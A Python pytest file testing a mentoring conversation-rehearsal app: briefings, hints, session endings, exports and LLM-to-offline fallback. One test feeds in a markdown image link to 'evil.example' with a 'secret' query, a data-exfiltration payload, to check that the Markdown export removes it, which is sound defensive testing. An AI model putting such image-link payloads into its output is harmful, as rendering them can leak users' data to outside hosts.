"""A rehearsal session: briefing with citations, hints, ending, exports, and the engine fallback."""

from __future__ import annotations

import re
from typing import Any

import pytest
from llm_server import Fault, LLMServer, refused_url

from coach.config import Settings
from coach.rehearsal.moves import MoveDetector
from coach.rehearsal.rubric import card_title
from coach.rehearsal.scenarios import build_custom_persona, build_custom_scenario, get_scenario
from coach.rehearsal.session import RehearsalSession, SessionEndedError, parse_command

from .conftest import HARD_REPLY, SOFT_REPLY, llm_settings, persona_responder, script_lines

PATTERNS_ONLY = MoveDetector(None)


def offline(scenario: str = "frequent-cancels", persona: str = "warm", **kwargs: object) -> RehearsalSession:
    return RehearsalSession(scenario, persona, "medium", engine="offline", detector=PATTERNS_ONLY, **kwargs)  # type: ignore[arg-type]


def test_briefing_gives_goal_good_practice_with_numbered_citations_and_the_opening_line() -> None:
    session = offline()
    briefing = session.briefing
    scenario = get_scenario("frequent-cancels")
    assert briefing.goal == scenario.user_goal
    assert [s.id for s in briefing.sources] == list(scenario.cards)
    for bullet, practice in zip(briefing.good_looks_like, scenario.good_looks_like, strict=True):
        numbers = [int(n) for n in re.findall(r"\[(\d+)\]", bullet)]
        assert [briefing.sources[n - 1].id for n in numbers] == list(practice.cards)
    assert briefing.sources[0].title == card_title(briefing.sources[0].id)  # a real card title, not the id
    assert session.transcript[0].role == "partner" and session.transcript[0].text == briefing.opening_line


def test_hint_fixes_the_last_poor_move_first_then_suggests_what_is_missing() -> None:
    session = offline()
    session.user_turn("You always cancel on me.")
    hint = session.hint()
    assert hint.startswith("Your last line came across as blame.")
    assert "card honesty-and-openness" in hint and card_title("honesty-and-openness") in hint
    session.user_turn("I wanted to talk about our sessions. In March we met once. I need more regularity.")
    follow = session.hint()
    assert follow.startswith("Ask a genuine open question about how it looks from their side")  # invites-perspective
    assert "For example: “What's been going on for you lately?”" in follow  # this scenario's own example
    assert session.hints == [hint, follow]


def test_hint_before_any_turn_suggests_the_opening() -> None:
    assert offline().hint().startswith("Open with one sentence that names the topic")


def test_natural_resolution_ends_the_session() -> None:
    session = offline(persona="warm")
    for line in script_lines("frequent-cancels", "good"):
        reply = session.user_turn(line)
    # settled: the user has one closing turn (their thanks), answered with a goodbye, and then it has ended
    assert reply.stage == "resolution" and session.settled and not reply.final
    farewell = session.user_turn("Thanks, that really helps.")
    assert farewell.final and session.end_reason == "resolution" and farewell.text in session.partner.persona.farewell
    with pytest.raises(SessionEndedError):
        session.user_turn("One more thing.")


def test_turn_limit_and_user_end() -> None:
    session = offline(max_turns=2)
    session.user_turn("Hello.")
    assert not session.ended
    assert session.user_turn("Hello again.").final and session.end_reason == "turn limit"
    other = offline()
    other.end()
    other.end("resolution")
    assert other.end_reason == "user"


def test_empty_and_overlong_turns_are_refused() -> None:
    session = offline()
    with pytest.raises(ValueError, match="say something"):
        session.user_turn("   ")
    with pytest.raises(ValueError, match="limit"):
        session.user_turn("x" * 1501)
    assert session.user_turns == []


def test_commands() -> None:
    assert [parse_command(t) for t in ("/hint", " /END ", "/hintx", "hint")] == ["hint", "end", None, None]


def test_json_has_exactly_the_documented_shape() -> None:
    session = offline()
    session.user_turn("I wanted to talk about our sessions.")
    data = session.to_json()
    assert set(data) == {"scenario", "persona", "difficulty", "engine", "transcript", "debrief"}
    assert (data["scenario"], data["persona"], data["difficulty"], data["engine"]) == (
        "frequent-cancels",
        "warm",
        "medium",
        "offline",
    )
    assert [t["role"] for t in data["transcript"]] == ["partner", "user", "partner"]
    assert all(set(t) == {"role", "text"} for t in data["transcript"])
    assert set(data["debrief"]) == {"criteria", "total", "strongest", "better_line", "weakest", "better_line_borrows",
                                    "better_line_advice", "sources"}
    assert all(set(c) == {"name", "score", "evidence", "hint"} for c in data["debrief"]["criteria"])
    assert all(set(s) == {"id", "title"} for s in data["debrief"]["sources"])


def test_markdown_export_has_briefing_transcript_and_debrief_and_is_safe_to_render() -> None:
    session = offline()
    session.user_turn("I wanted to talk about our sessions. ![x](https://evil.example/?q=secret)")
    session.hint()
    markdown = session.to_markdown()
    assert markdown.startswith("# Rehearsal: Your mentor keeps cancelling")
    assert "## Briefing" in markdown and "## Transcript" in markdown and "## Debrief" in markdown
    assert "**You:** I wanted to talk about our sessions." in markdown
    assert f"**Mentor:** {session.briefing.opening_line}" in markdown
    assert f"**Total: {session.debrief().total} / 24**" in markdown
    assert "> *Hint:*" in markdown  # in the transcript where it was asked for, not gathered at the end
    assert "![x](" not in markdown and "(image removed: x)" in markdown  # no image the viewer would fetch
    assert "### Cards cited in the debrief" in markdown


def test_custom_scenario_and_persona_can_be_rehearsed() -> None:
    scenario = build_custom_scenario("My mentee keeps interrupting in team meetings.")
    persona = build_custom_persona("Brief and always in a hurry.")
    session = RehearsalSession(scenario, persona, "easy", engine="offline", detector=PATTERNS_ONLY)
    reply = session.user_turn("I'd like to talk about Tuesday's team meeting.")
    assert reply.tone == "soften" and reply.text
    assert session.to_json()["scenario"] == "custom" and session.to_json()["persona"] == "custom"


def test_llm_failing_mid_session_hands_over_to_the_offline_partner_with_a_notice(llm_server: LLMServer) -> None:
    llm_server.responder = persona_responder
    session = RehearsalSession(
        "frequent-cancels", "busy", "medium", engine="llm", settings=llm_settings(llm_server), detector=PATTERNS_ONLY
    )
    first = session.user_turn("I wanted to talk about how our sessions have been going.")
    assert (first.text, first.engine, first.notice) == (SOFT_REPLY, "llm:loopback-model", None)
    llm_server.queue(Fault("broken_stream", after_chunks=1))
    second = session.user_turn("You always cancel on me.")
    assert second.engine == "offline" and second.notice and "offline partner takes over" in second.notice
    assert second.text in get_scenario("frequent-cancels").lines("busy", "reaction", "harden", "medium")
    assert second.text != HARD_REPLY
    sent = len(llm_server.requests)
    third = session.user_turn("Could we try a 30-minute call every other Tuesday?")
    assert third.engine == "offline" and third.notice is None and len(llm_server.requests) == sent
    assert session.debrief().engine == "offline"  # the model is not asked again after it failed
    assert session.to_json()["engine"] == "offline"


def test_a_partner_turn_reports_its_wait_the_way_drafts_do(llm_server: LLMServer) -> None:
    llm_server.responder = persona_responder
    llm_server.queue(Fault("429", retry_after=0.2))  # the first attempt is refused, the retry answers
    waits: list[Any] = []
    settings = llm_settings(llm_server).with_overrides(max_retries=1, deadline=20.0)
    session = RehearsalSession("frequent-cancels", "warm", "medium", engine="llm", settings=settings,
                               detector=PATTERNS_ONLY, on_wait=waits.append)
    reply = session.user_turn("I wanted to talk about how our sessions have been going.")
    assert reply.engine == "llm:loopback-model" and reply.notice is None
    retry = [w for w in waits if w.attempt == 2]
    assert retry and "429" in retry[0].reason and all(0 <= w.seconds_left <= 20 for w in waits)


def test_llm_debrief_failure_falls_back_to_the_offline_scorer(llm_server: LLMServer) -> None:
    llm_server.responder = persona_responder
    session = RehearsalSession(
        "frequent-cancels", "warm", "easy", engine="llm", settings=llm_settings(llm_server), detector=PATTERNS_ONLY
    )
    session.user_turn("I wanted to talk about our sessions.")
    llm_server.queue(Fault("503"))
    debrief = session.debrief()
    assert debrief.engine == "offline" and any("scored offline" in n for n in session.notices)


def test_unreachable_model_server_means_offline_from_the_start_with_a_notice() -> None:
    settings = Settings(openai_base_url=refused_url(), max_retries=0, request_timeout=2)
    session = RehearsalSession(
        "frequent-cancels", "warm", "medium", engine="llm", settings=settings, detector=PATTERNS_ONLY
    )
    reply = session.user_turn("I wanted to talk about our sessions.")
    assert reply.engine == "offline" and "refused" in (reply.notice or "")


def test_llm_engine_without_a_configured_server_rehearses_offline() -> None:
    session = RehearsalSession("frequent-cancels", engine="llm", settings=Settings(), detector=PATTERNS_ONLY)
    assert session.engine == "offline" and "No model server is configured" in session.notices[0]
